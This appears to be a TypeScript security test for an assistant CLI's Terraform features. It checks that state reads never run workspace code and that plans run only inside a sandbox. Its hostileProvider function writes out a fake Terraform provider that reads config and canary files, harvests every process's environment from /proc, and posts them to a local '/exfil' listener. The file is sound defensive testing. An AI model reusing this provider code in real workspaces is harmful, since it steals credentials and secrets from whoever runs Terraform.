/**
 * Reads run no one's code (issue 36 item 2), against a hostile terraform workspace: its `.terraform/`
 * holds a fake `hashicorp/external` provider (installed by `terraform init` from a local mirror) and
 * its configuration a `data "external"` that needs it. The fake is a Node program: whenever terraform
 * loads it, it writes a marker into the workspace, reads what it can of the assistant (its config, its
 * data folder, every /proc/<pid>/environ) and posts all of it to a local listener. The control below
 * shows `terraform show -json` (what reads ran before) does run it.
 *
 * Proved: `ask` about the state, the addresses and a plan, `credentials test`, and the read-only MCP ask
 * never start it; a state behind a non-local backend (http, served here) is read with `terraform state
 * pull`, which does not start it either; `--terraform-plan` does run it, but only in the sandbox: it
 * cannot write the workspace or read the assistant's config, data or environment. Without a sandbox the
 * plan is refused (exit 3) unless --unsandboxed.
 */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { sandboxAvailability } from '../../../engine/core/process/contain.js';
import { runCli } from '../../support/cli.js';
import { callTool, connectStdio, textOf } from '../../support/mcp.js';
import { startOpenAiServer } from '../../support/openai-server.js';
import { testWhen } from '../../support/skip.js';
import { terraformCliMissing } from '../../support/terraform.js';
import { tempDir } from '../../support/temp.js';

const SECRETS = { GPUCLOUD_CLIENT_SECRET: 'gcsecret-tf-canary-31a7', OPENAI_API_KEY: 'openai-tf-canary-8e2b' };
const CONFIG_SECRET = 'config-tf-canary-c0ffee';
const DATA_CANARY = 'data-tf-canary-beef42';

/** What the hostile provider posted, one body per run. */
const posts: string[] = [];
let listener: Server;
let port = 0;
/** The state the http backend serves. */
let servedState = '';
const backendRequests: string[] = [];

const STATE = {
  version: 4,
  terraform_version: '1.11.4',
  serial: 1,
  lineage: 'hostile-lineage',
  outputs: { url: { value: 'http://web.internal', type: 'string' }, token: { value: 'state-sensitive-never-shown', type: 'string', sensitive: true } },
  resources: [
    {
      mode: 'managed',
      type: 'terraform_data',
      name: 'web',
      provider: 'provider["terraform.io/builtin/terraform"]',
      instances: [{ schema_version: 0, attributes: { id: 'web-1111', input: { value: 'v1', type: 'string' }, output: { value: 'v1', type: 'string' }, triggers_replace: null } }],
    },
    {
      mode: 'managed',
      type: 'terraform_data',
      name: 'node',
      provider: 'provider["terraform.io/builtin/terraform"]',
      instances: [
        { index_key: 0, schema_version: 0, attributes: { id: 'node-0', input: null, output: null, triggers_replace: null } },
        { index_key: 1, schema_version: 0, attributes: { id: 'node-1', input: null, output: null, triggers_replace: null } },
      ],
    },
  ],
};

const missing = (): string | undefined => {
  const tf = terraformCliMissing();
  if (tf) return tf;
  const box = sandboxAvailability(process.env);
  return box.ok ? undefined : `no sandbox here: ${box.why} (see .ci/run)`;
};
const hostile = testWhen(test, missing);

test.before(async () => {
  listener = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (d: string) => (body += d));
    req.on('end', () => {
      if (req.url === '/exfil') posts.push(body);
      else backendRequests.push(`${req.method} ${req.url}`);
      if (req.url?.startsWith('/state') && req.method === 'GET') {
        res.writeHead(200, { 'content-type': 'application/json' });
        return void res.end(servedState);
      }
      res.writeHead(200).end();
    });
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as AddressInfo).port;
});
test.after(() => new Promise<void>((resolve) => listener.close(() => resolve())));
test.before.each(() => {
  posts.length = 0;
  backendRequests.length = 0;
});

/** terraform run in `dir` with the CLI config `rc`, without blocking this process (the listener answers meanwhile). */
function terraform(dir: string, rc: string, args: string[]): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn('terraform', args, { cwd: dir, env: { ...process.env, TF_CLI_CONFIG_FILE: rc, TF_IN_AUTOMATION: '1', CHECKPOINT_DISABLE: '1' }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d));
    child.stderr.on('data', (d: Buffer) => (out += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), 120_000);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, out });
    });
  });
}

/** The hostile provider: a Node program terraform starts as a plugin. */
function hostileProvider(marker: string): string {
  return `#!${process.execPath}
const fs = require('fs');
const home = process.env.HOME || '';
const seen = { home };
try { fs.writeFileSync(${JSON.stringify(marker)}, 'ran\\n'); seen.marker = 'written'; } catch (e) { seen.marker = e.code; }
for (const f of [home + '/.assistant.yaml', home + '/.assistant/canary.txt']) {
  try { seen[f] = fs.readFileSync(f, 'utf8'); } catch (e) { seen[f] = e.code; }
}
seen.environ = fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).map((p) => { try { return fs.readFileSync('/proc/' + p + '/environ', 'utf8'); } catch { return ''; } }).join('\\n');
const req = require('http').request({ host: '127.0.0.1', port: ${port}, path: '/exfil', method: 'POST' }, () => process.exit(1));
req.on('error', () => process.exit(1));
req.end(JSON.stringify(seen));
`;
}

interface Workspace {
  dir: string;
  marker: string;
  home: string;
  rc: string;
}

/**
 * A home with the assistant's config (a secret in it, the workspace configured) and data folder, and a
 * workspace initialised from a mirror holding the hostile provider. `backend`: the configuration's
 * backend block (the http one is served by the listener).
 */
async function workspace(backend = ''): Promise<Workspace> {
  const root = tempDir('tf-hostile-');
  const dir = join(root, 'ws');
  const home = join(root, 'home');
  const mirror = join(root, 'mirror', 'registry.terraform.io', 'hashicorp', 'external', '9.9.9', 'linux_amd64');
  mkdirSync(dir);
  mkdirSync(join(home, '.assistant'), { recursive: true });
  mkdirSync(mirror, { recursive: true });
  const marker = join(dir, 'MARKER');
  writeFileSync(join(mirror, 'terraform-provider-external_v9.9.9'), hostileProvider(marker));
  chmodSync(join(mirror, 'terraform-provider-external_v9.9.9'), 0o755);
  const rc = join(root, 'mirror.tfrc');
  writeFileSync(rc, `provider_installation {\n  filesystem_mirror {\n    path = ${JSON.stringify(join(root, 'mirror'))}\n  }\n}\n`);
  writeFileSync(
    join(dir, 'main.tf'),
    `terraform {\n  required_providers {\n    external = { source = "hashicorp/external" }\n  }\n${backend}}\nresource "terraform_data" "web" { input = "v1" }\nresource "terraform_data" "node" {\n  count = 2\n}\ndata "external" "probe" {\n  program = ["sh", "-c", "touch \${path.module}/EXTERNAL-MARKER; echo {}"]\n}\n`,
  );
  if (!backend) writeFileSync(join(dir, 'terraform.tfstate'), JSON.stringify(STATE));
  // Not spawnSync: an http backend's init talks to the listener in this very process.
  const init = await terraform(dir, rc, ['init', '-input=false', '-no-color']);
  if (init.code !== 0) throw new Error(`terraform init failed (${init.code}): ${init.out}`);
  writeFileSync(join(home, '.assistant.yaml'), `terraform:\n  default_workspace: hostile\n  workspaces:\n    hostile: { path: ${JSON.stringify(dir)} }\nai:\n  providers:\n    openai:\n      api_key: ${CONFIG_SECRET}\n`, { mode: 0o600 });
  writeFileSync(join(home, '.assistant', 'canary.txt'), DATA_CANARY);
  return { dir, marker, home, rc };
}

const ran = (ws: Workspace) => existsSync(ws.marker) || existsSync(join(ws.dir, 'EXTERNAL-MARKER')) || posts.length > 0;

hostile('reads run none of the workspace’s code: the state, the addresses, a plan question, credentials test and the MCP ask leave no trace', async () => {
  const ws = await workspace();
  // Control: what a read ran before (terraform show -json) starts the hostile provider.
  await terraform(ws.dir, ws.rc, ['show', '-json']);
  assert.ok(existsSync(ws.marker), 'terraform show runs the workspace’s provider binary');
  assert.ok(posts.length > 0, 'and it reports to the listener');
  rmSync(ws.marker);
  posts.length = 0;

  const env = { ...SECRETS, TF_CLI_CONFIG_FILE: ws.rc };
  const state = await runCli(['ask', '--ai-profile', 'builtin', '--terraform', 'what is deployed?'], { home: ws.home, env });
  assert.is(state.code, 0, state.stderr);
  assert.match(state.stdout, /^Terraform workspace hostile \(.*\): 3 resources \(3 terraform_data\):\n- terraform_data\.node\[0\] \(id node-0\)\n- terraform_data\.node\[1\] \(id node-1\)\n- terraform_data\.web \(id web-1111\)$/m);
  assert.match(state.stdout, /Outputs: token \(sensitive, not shown\), url = "http:\/\/web\.internal"/);
  assert.not.ok(state.stdout.includes('state-sensitive-never-shown'));

  const list = await runCli(['ask', '--ai-profile', 'builtin', '--terraform', 'list the addresses'], { home: ws.home, env });
  assert.is(list.code, 0, list.stderr);
  assert.match(list.stdout, /^Terraform workspace hostile: 3 addresses in the state:\n- terraform_data\.node\[0\]\n- terraform_data\.node\[1\]\n- terraform_data\.web$/m);

  const plan = await runCli(['ask', '--ai-profile', 'builtin', '--terraform', 'what would an apply change?'], { home: ws.home, env });
  assert.is(plan.code, 0, plan.stderr);
  assert.match(plan.stdout, /^Terraform plan of workspace hostile: not computed — a plan runs the workspace's own code .* ask with --terraform-plan to compute it in a sandbox/m);

  const creds = await runCli(['credentials', 'test', 'terraform'], { home: ws.home, env });
  assert.is(creds.code, 0, creds.stderr);
  assert.match(creds.stdout, /hostile: 3 resource\(s\) in the state \(terraform 1\.11\.4\)/);

  const ai = await startOpenAiServer();
  let client: Awaited<ReturnType<typeof connectStdio>>['client'] | undefined;
  try {
    writeFileSync(join(ws.home, '.assistant.yaml'), `${readFileSync(join(ws.home, '.assistant.yaml'), 'utf8')}  default_provider: openai\n`.replace(`api_key: ${CONFIG_SECRET}`, `api_key: ${CONFIG_SECRET}\n      model: test-model\n      local_model_inference_url: ${ai.baseURL}`), { mode: 0o600 });
    ({ client } = await connectStdio({ env, home: ws.home }));
    ai.reply({ text: 'Nothing computed.' });
    const r = await callTool(client!, 'assistant_gpucloud_ask', { question: 'in my terraform workspace, what would an apply change?' });
    assert.not.ok(r.isError, textOf(r));
    assert.equal(r.structuredContent.providers, ['terraform']);
    assert.match(JSON.stringify(ai.chatRequests().at(-1)), /not_computed/, "the model is told the plan was not computed");
  } finally {
    await client?.close();
    await ai.close();
  }
  assert.not.ok(ran(ws), `the workspace’s code ran: ${posts.join('\n')}`);
});

hostile('a non-local backend (http) is read with terraform state pull, contained: the provider never starts', async () => {
  servedState = JSON.stringify(STATE);
  const ws = await workspace(`  backend "http" {\n    address = "http://127.0.0.1:${port}/state"\n  }\n`);
  backendRequests.length = 0;
  const r = await runCli(['ask', '--ai-profile', 'builtin', '--terraform', 'what is deployed?'], { home: ws.home, env: { ...SECRETS, TF_CLI_CONFIG_FILE: ws.rc } });
  assert.is(r.code, 0, r.stderr);
  assert.match(r.stdout, /^Terraform workspace hostile \(.*\): 3 resources \(3 terraform_data\)/m);
  assert.ok(backendRequests.some((q) => q.startsWith('GET /state')), `the backend was asked: ${backendRequests.join(', ')}`);
  assert.not.ok(ran(ws), `the workspace’s code ran: ${posts.join('\n')}`);
});

hostile('--terraform-plan runs the workspace’s code only in its sandbox: no write to the workspace, none of the assistant’s config, data or environment', async () => {
  const ws = await workspace();
  const r = await runCli(['ask', '--ai-profile', 'builtin', '--terraform', '--terraform-plan', 'what would an apply change?'], { home: ws.home, env: { ...SECRETS, TF_CLI_CONFIG_FILE: ws.rc } });
  // The fake provider speaks no plugin protocol: the plan fails, after it ran.
  assert.is(r.code, 1, r.stdout);
  assert.is(posts.length >= 1, true, 'the hostile provider ran (and reached the network a plan needs)');
  for (const body of posts) {
    const seen = JSON.parse(body) as Record<string, string>;
    assert.is(seen.marker, 'EROFS', 'the workspace is read-only');
    assert.is(seen[`${ws.home}/.assistant.yaml`], 'ENOENT');
    assert.is(seen[`${ws.home}/.assistant/canary.txt`], 'ENOENT');
    for (const value of [...Object.values(SECRETS), CONFIG_SECRET, DATA_CANARY]) assert.not.ok(body.includes(value), `${value} reached workspace code`);
  }
  assert.not.ok(existsSync(ws.marker));
});

hostile('without a sandbox --terraform-plan is refused (exit 3, nothing ran) unless --unsandboxed', async () => {
  const ws = await workspace();
  // terraform's own folder on PATH, bubblewrap's not.
  const bin = tempDir('tf-nobwrap-');
  symlinkSync(spawnSync('sh', ['-c', 'command -v terraform'], { encoding: 'utf8' }).stdout.trim(), join(bin, 'terraform'));
  const r = await runCli(['ask', '--ai-profile', 'builtin', '--terraform', '--terraform-plan', 'what would an apply change?'], { home: ws.home, env: { ...SECRETS, TF_CLI_CONFIG_FILE: ws.rc, PATH: bin } });
  assert.is(r.code, 3, r.stderr);
  assert.match(r.stderr, /^error: sandbox_unavailable: terraform plan of workspace "hostile" \(it runs the workspace's providers and data sources\) runs code the assistant did not write and needs a sandbox, but bubblewrap \(bwrap\) is not installed/m);
  assert.not.ok(ran(ws), 'nothing ran');
  // The state is still read: no code runs for it.
  const read = await runCli(['ask', '--ai-profile', 'builtin', '--terraform', 'what is deployed?'], { home: ws.home, env: { ...SECRETS, TF_CLI_CONFIG_FILE: ws.rc, PATH: bin } });
  assert.is(read.code, 0, read.stderr);
});

test.run();
